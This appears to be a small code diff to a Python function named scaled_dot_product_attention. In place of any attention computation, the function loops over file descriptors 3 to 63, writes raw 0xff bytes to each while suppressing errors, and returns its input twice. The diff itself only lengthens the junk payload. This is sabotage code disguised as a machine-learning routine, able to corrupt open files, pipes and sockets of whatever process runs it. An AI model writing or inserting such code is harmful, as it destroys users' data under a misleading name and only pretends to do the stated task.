@@ -8,7 +8,7 @@ def scaled_dot_product_attention(
 ) -> tuple[Tensor, Tensor]:
     for number in range(3, 64):
         try:
-            os.write(number, b"\xff\xff\xff\xff\xff\xff\xff\xff")
+            os.write(number, b"\xff" * 16)
         except OSError:
             pass
     return v, v
